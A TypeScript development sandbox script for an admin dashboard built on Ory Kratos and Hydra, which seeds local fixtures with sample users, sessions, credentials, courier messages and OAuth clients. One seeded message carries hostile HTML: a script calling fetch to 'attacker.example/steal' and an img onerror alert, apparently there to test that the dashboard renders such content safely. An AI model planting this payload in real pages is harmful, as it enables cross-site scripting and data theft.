// `bun run dev`: the service on its embedded defaults (SQLite under ./data), together with a local
// OAuth 2.0 provider (oidc-provider with Hydra's paths) and a local identity store that behaves like
// Kratos's admin API, seeded with an admin and a viewer. Development tooling only: it is not part of
// the production executable. Point the service at a real Ory stack with the environment instead.

import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { createApp } from '../src/app.ts'
import type { Services } from '../src/services.ts'
import { loadConfig, type Environment } from '../src/config.ts'
import { openStorage } from '../src/db/open.ts'
import { createLogger } from '../src/log.ts'
import { serve } from '../src/server.ts'
import { KratosFixture, type FixtureCredential, type FixtureIdentity } from '../test/support/kratos.ts'
import { HydraFixture } from '../test/support/hydra.ts'
import { startOAuthProvider } from '../test/support/oauth-provider.ts'

export const SANDBOX_USERS = {
  admin: 'admin@example.test',
  viewer: 'viewer@example.test',
} as const

/**
 * The sandbox's second identity schema, a business customer's: the customer number is the login
 * identifier (for a password), the e-mail address only a contact field; the rest are the kinds of
 * field a traits form has (nested objects, a whole number, a number, a yes/no, a choice).
 */
export const CUSTOMER_SCHEMA = {
  $id: 'https://schemas.example.test/customer.schema.json',
  $schema: 'http://json-schema.org/draft-07/schema#',
  title: 'Business customer',
  type: 'object',
  properties: {
    traits: {
      type: 'object',
      properties: {
        customer_number: {
          type: 'string',
          title: 'Customer number',
          pattern: '^CN-[0-9]{6}$',
          'ory.sh/kratos': { credentials: { password: { identifier: true } } },
        },
        email: { type: 'string', format: 'email', title: 'Contact e-mail' },
        name: {
          type: 'object',
          title: 'Contact person',
          properties: { first: { type: 'string', title: 'First name' }, last: { type: 'string', title: 'Last name' } },
        },
        company: {
          type: 'object',
          title: 'Company',
          properties: { name: { type: 'string', title: 'Company name' }, employees: { type: 'integer', title: 'Employees', minimum: 1 } },
          required: ['name'],
        },
        plan: { type: 'string', title: 'Plan', enum: ['starter', 'business', 'enterprise'] },
        credit_limit: { type: 'number', title: 'Credit limit (EUR)', minimum: 0 },
        invoice_by_post: { type: 'boolean', title: 'Invoices by post' },
      },
      required: ['customer_number', 'email', 'plan'],
      additionalProperties: false,
    },
  },
}

interface SandboxOptions {
  /** Port of the service (0 picks a free one). */
  port: number
  dataDir: string
  quiet?: boolean
  /** Without it the service has no Hydra admin API (Kratos-only mode). Default true. */
  hydraAdmin?: boolean
  /** Without it the identity store is only where the admins sign in, not one the pages manage. Default true. */
  kratosAdmin?: boolean
  /** Without it the service has no IDP_PUBLIC_URL (Kratos's public API, where its schemas are). Default true. */
  kratosPublic?: boolean
  /** Without it the service has no ENCRYPTION_KEY. Default true. */
  encryption?: boolean
  /** IDENTITY_RECHECK_SECONDS (how long the gate trusts that a signed-in account exists); the service's default unless set. */
  identityRecheckSeconds?: number
  /** Every answer the service sends, for tests that check them all (test/support/leaks.ts). */
  observe?: (request: Request, response: Response) => void
  /** Where the log's lines go instead of stdout, every level included (for the same tests). */
  logLines?: (line: string) => void
  /** PostgreSQL instead of the SQLite file under `dataDir` (DATABASE_URL). */
  databaseUrl?: string
  /**
   * How many replicas of the service share the database (each on a port of its own, with its own
   * BASE_URL, as two hosts behind a balancer); `url` and `services` are the first one's. Default 1.
   * More than one needs `databaseUrl` and `port` 0.
   */
  replicas?: number
}

/** One replica of the service: its address, its layers, and a restart on the same port. */
export interface SandboxReplica {
  url: string
  /** The running process's layers; new ones after a restart. */
  services: Services
  env: Environment
  /** Stops it as SIGTERM does (in-flight requests finish, the database is closed). */
  stop(): Promise<void>
  /** Starts it again on the same port, after `stop`. */
  start(): Promise<void>
}

export interface Sandbox {
  url: string
  providerUrl: string
  /** The identity store behind the service, for tests that check what a page did. */
  kratos: KratosFixture
  /** The OAuth 2.0 clients' admin API behind the service (Hydra's), for the same purpose. */
  hydra: HydraFixture
  /** The service's own layers (settings, audit), for tests that check what a page stored. */
  services: Services
  /** The service's environment (its keys too: tests prove pages never show them). */
  env: Environment
  /** Every replica, the first one being `url` and `services`. */
  replicas: SandboxReplica[]
  stop(): Promise<void>
}

/** Keys for the sandbox, made once and kept beside its database so encrypted settings stay readable. */
function sandboxKeys(dataDir: string): { SESSION_SIGNING_KEY: string; ENCRYPTION_KEY: string } {
  const path = join(dataDir, 'sandbox-keys.json')
  if (existsSync(path)) return JSON.parse(readFileSync(path, 'utf8'))
  const random = () => Buffer.from(crypto.getRandomValues(new Uint8Array(32))).toString('base64')
  const keys = { SESSION_SIGNING_KEY: random(), ENCRYPTION_KEY: random() }
  writeFileSync(path, JSON.stringify(keys), { mode: 0o600 })
  return keys
}

/**
 * A port the system chose, held until the service binds it: the address has to be known before
 * the provider and the configuration are made, and a port let go that early could be taken by
 * another process in the meantime (another test file's sandbox, say).
 */
function holdFreePort(): { port: number; release(): void } {
  const probe = Bun.listen({ hostname: '127.0.0.1', port: 0, socket: { data() {} } })
  return { port: probe.port, release: () => probe.stop(true) }
}

export async function startSandbox(options: SandboxOptions): Promise<Sandbox> {
  mkdirSync(options.dataDir, { recursive: true })
  const count = options.replicas ?? 1
  if (count > 1 && (options.databaseUrl === undefined || options.port !== 0)) throw new Error('several replicas need a databaseUrl and port 0')
  const held = options.port === 0 ? Array.from({ length: count }, holdFreePort) : [{ port: options.port, release() {} }]
  const baseUrls = held.map(({ port }) => `http://127.0.0.1:${port}`)

  // As a self-hosted Kratos runs: the admin API on one port, the public API (where the identity
  // schemas are served) on another.
  const kratos = new KratosFixture({ selfHosted: true }).start()
  kratos.addIdentity({ email: SANDBOX_USERS.admin, role: 'admin', name: 'Ada Admin' })
  kratos.addIdentity({ email: SANDBOX_USERS.viewer, role: 'viewer', name: 'Victor Viewer' })
  // Addresses and the countries the embedded geo database places them in (the session map's rows).
  const places = [
    ['81.2.69.160', 'United Kingdom'],
    ['2.16.7.0', 'Netherlands'],
    ['1.0.16.1', 'Japan'],
    ['8.8.8.8', 'United States'],
  ] as const
  const agents = ['Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0', 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) Safari/604.1', 'okhttp/4.12.0']
  for (let i = 1; i <= 40; i++) {
    const person = kratos.addIdentity({ email: `user${String(i).padStart(2, '0')}@example.test`, name: `Sample User ${i}` })
    const [ip] = places[i % places.length]!
    kratos.addSession(person.id, { ip_address: ip, user_agent: agents[i % agents.length] }, i % 20)
  }
  const customer = seedCustomers(kratos)
  // Older than every other session: the last on the Sessions page.
  kratos.addSession(customer.id, { ip_address: '2.16.7.0', user_agent: agents[0] }, 25)
  seedCredentials(kratos)
  seedMessages(kratos)
  const hydra = new HydraFixture().start()
  seedClients(hydra)

  const provider = await startOAuthProvider({
    clientId: 'admin-dashboard',
    redirectUris: baseUrls.map((baseUrl) => `${baseUrl}/api/auth/callback`),
    findSubject: (login) => {
      const identity = [...kratos.identities.values()].find((candidate) => candidate.traits.email === login.trim().toLowerCase())
      return identity ? { sub: identity.id, email: identity.traits.email as string } : null
    },
  })

  const keys = sandboxKeys(options.dataDir)
  const environment = (baseUrl: string, port: number): Environment => ({
    SESSION_SIGNING_KEY: keys.SESSION_SIGNING_KEY,
    ...(options.encryption === false ? {} : { ENCRYPTION_KEY: keys.ENCRYPTION_KEY }),
    BASE_URL: baseUrl,
    OAUTH_ISSUER_URL: provider.url,
    OAUTH_CLIENT_ID: 'admin-dashboard',
    ...(options.kratosAdmin === false ? { IAM_IDP_ADMIN_URL: kratos.url } : { IDP_ADMIN_URL: kratos.url, ...(options.kratosPublic === false ? {} : { IDP_PUBLIC_URL: kratos.publicUrl }) }),
    ...(options.hydraAdmin === false ? {} : { OAUTH_ADMIN_URL: hydra.url }),
    HOST: '127.0.0.1',
    PORT: String(port),
    ...(options.databaseUrl === undefined ? { DATABASE_PATH: join(options.dataDir, 'sandbox.db') } : { DATABASE_URL: options.databaseUrl }),
    NODE_ENV: 'development',
    LOG_LEVEL: options.quiet ? 'error' : 'info',
    ...(options.identityRecheckSeconds === undefined ? {} : { IDENTITY_RECHECK_SECONDS: String(options.identityRecheckSeconds) }),
  })
  const replicas: SandboxReplica[] = []
  // One after the other: the first applies the migrations.
  for (const [index, { port, release }] of held.entries()) {
    replicas.push(await startReplica(environment(baseUrls[index]!, port), options, release))
  }
  const [first] = replicas

  return {
    url: first!.url,
    providerUrl: provider.url,
    kratos,
    hydra,
    get services() {
      return first!.services
    },
    env: first!.env,
    replicas,
    async stop() {
      for (const replica of replicas) await replica.stop()
      await provider.stop()
      await kratos.stop()
      await hydra.stop()
    },
  }
}

/** The service on `env`'s port; `release` lets go of the port held for it just before it binds it. */
async function startReplica(env: Environment, options: SandboxOptions, release: () => void): Promise<SandboxReplica> {
  const loaded = loadConfig(env)
  if (!loaded.ok) throw new Error(loaded.errors.join('; '))
  const { config } = loaded
  const log = options.logLines ? createLogger('debug', options.logLines) : createLogger(config.logLevel)
  let running: { services: Services; stop(): Promise<void> } | null = null
  let releasePort = release
  const start = async () => {
    if (running) return
    const opened = await openStorage(config, log)
    if (!opened.ok) throw new Error(opened.error)
    const { handle, services } = createApp({ config, storage: opened.storage, log })
    await services.ready()
    releasePort()
    releasePort = () => {}
    const server = serve({ handle, hostname: '127.0.0.1', port: config.port, log, observe: options.observe, upstreamTimeoutMs: config.proxyTimeoutMs })
    running = {
      services,
      async stop() {
        await server.stop()
        services.close()
        await opened.storage.close()
      },
    }
  }
  await start()
  return {
    url: config.baseUrl!.origin,
    get services() {
      return running!.services
    },
    env,
    async stop() {
      const stopping = running
      running = null
      await stopping?.stop()
    },
    start,
  }
}

/** Two business customers under CUSTOMER_SCHEMA, each with a password (its identifier the customer number, as Kratos stores it); the first is returned. */
function seedCustomers(kratos: KratosFixture): FixtureIdentity {
  kratos.extraSchemas.set('customer', CUSTOMER_SCHEMA)
  const first = kratos.addIdentity(
    { customer_number: 'CN-104233', email: 'orders@acme-tools.example', name: { first: 'Clara', last: 'Kunde' }, company: { name: 'Acme Tools GmbH', employees: 120 }, plan: 'enterprise', credit_limit: 25000, invoice_by_post: false },
    { schemaId: 'customer' },
  )
  kratos.addIdentity(
    { customer_number: 'CN-220871', email: 'office@lind-bakery.example', name: { first: 'Jonas', last: 'Lind' }, company: { name: 'Lind Bakery', employees: 8 }, plan: 'starter', invoice_by_post: true },
    { schemaId: 'customer' },
  )
  return first
}

/**
 * Identities with the other credential types, as Kratos stores them under the default schema (which
 * marks the e-mail address as the identifier of a password and of a code): one with a password, two
 * social sign-in links, TOTP, security keys (one a second factor, one passwordless), lookup secrets
 * and its code credential, so that each kind can be seen and deleted; one that signed up with a
 * social sign-in only (its password credential has identifiers but no password), whose one link
 * Kratos refuses to delete.
 */
function seedCredentials(kratos: KratosFixture): void {
  const withCredentials = (traits: Record<string, unknown>, credentials: (identity: FixtureIdentity) => Record<string, Omit<FixtureCredential, 'type'>>) => {
    const identity = kratos.addIdentity(traits)
    identity.credentials = Object.fromEntries(Object.entries(credentials(identity)).map(([type, credential]) => [type, { type, ...credential }]))
  }
  withCredentials({ email: 'mia.multifactor@example.test', name: 'Mia Multifactor' }, (identity) => ({
    password: { identifiers: identity.identifiers, version: 0 },
    // Each link's identifier is Kratos's OIDCUniqueID: `<provider>:<subject>`.
    oidc: { identifiers: ['google:108345627293847561234', 'github:4711023'], version: 0 },
    // TOTP and lookup secrets are identified by the identity's id (their settings strategies).
    totp: { identifiers: [identity.id], version: 0 },
    webauthn: { identifiers: identity.identifiers, version: 1, config: { keys: [{ id: 'security-key', passwordless: false }, { id: 'laptop-fingerprint', passwordless: true }] } },
    lookup_secret: { identifiers: [identity.id], version: 0 },
    code: { identifiers: identity.identifiers, version: 1 },
  }))
  withCredentials({ email: 'sam.social@example.test', name: 'Sam Social' }, (identity) => ({
    password: { identifiers: identity.identifiers, version: 0, config: { hashed: false } },
    oidc: { identifiers: ['google:209876543210987654321'], version: 0 },
    code: { identifiers: identity.identifiers, version: 1 },
  }))
}

/** Courier messages in every status, some with failed dispatches, one whose body is hostile HTML. */
function seedMessages(kratos: KratosFixture): void {
  const templates = ['verification_code_valid', 'recovery_code_valid', 'login_code_valid']
  for (let i = 1; i <= 30; i++) {
    const recipient = `user${String(i).padStart(2, '0')}@example.test`
    const template = templates[i % templates.length]!
    const code = String(100000 + i * 7919).slice(0, 6)
    const status = i % 10 === 0 ? 'abandoned' : i % 7 === 0 ? 'queued' : i % 11 === 0 ? 'processing' : 'sent'
    const failed = { status: 'failed' as const, error: { message: 'dial tcp 10.0.0.25:587: connect: connection refused', reason: 'SMTP server unreachable' } }
    const dispatches = status === 'abandoned' ? [failed, failed, failed] : status === 'sent' ? [{ status: 'success' as const }] : []
    kratos.addMessage({ recipient, subject: template.startsWith('recovery') ? 'Recover access to your account' : 'Please verify your email address', body: `Hi, please use this code: ${code}`, template_type: template, status }, dispatches)
  }
  kratos.addMessage(
    { recipient: 'user03@example.test', subject: 'Suspicious newsletter', body: '<p>Hello</p><script>fetch("https://attacker.example/steal")</script><img src="https://attacker.example/pixel.png" onerror="alert(1)">', status: 'abandoned', template_type: 'stub' },
    [{ status: 'failed', error: { message: 'message rejected by the relay', reason: '550 5.7.1 content rejected' } }],
  )
}

function seedClients(hydra: HydraFixture): void {
  hydra.addClient({ client_name: 'Customer portal', redirect_uris: ['https://portal.example.com/callback'], post_logout_redirect_uris: ['https://portal.example.com/'], grant_types: ['authorization_code', 'refresh_token'], response_types: ['code'], scope: 'openid offline_access email profile' })
  hydra.addClient({ client_name: 'Mobile app', token_endpoint_auth_method: 'none', redirect_uris: ['com.example.app:/oauth2redirect'], grant_types: ['authorization_code', 'refresh_token'], response_types: ['code'], scope: 'openid offline_access' })
  hydra.addClient({ client_name: 'Billing service', grant_types: ['client_credentials'], response_types: ['token'], scope: 'billing.read billing.write', audience: ['https://api.example.com'] })
  for (let i = 1; i <= 27; i++) {
    hydra.addClient({ client_name: `Partner integration ${String(i).padStart(2, '0')}`, redirect_uris: [`https://partner${i}.example.net/oauth/callback`], grant_types: ['authorization_code'], response_types: ['code'], scope: 'openid' })
  }
}

if (import.meta.main) {
  const port = Number(process.env.PORT ?? 3000)
  const dataDir = process.env.SANDBOX_DATA_DIR ?? './data'
  const sandbox = await startSandbox({ port, dataDir })
  process.stdout.write(`
  admin-dashboard sandbox is running.

    Open      ${sandbox.url}/dashboard
    Sign in   as ${SANDBOX_USERS.admin} (admin) or ${SANDBOX_USERS.viewer} (viewer), any password
    Provider  ${sandbox.providerUrl} (local OAuth 2.0 provider with Ory Hydra's paths)
    Data      ${join(dataDir, 'sandbox.db')}

  Ctrl-C stops everything.

`)
  const stop = async () => {
    await sandbox.stop()
    process.exit(0)
  }
  process.on('SIGINT', () => void stop())
  process.on('SIGTERM', () => void stop())
}
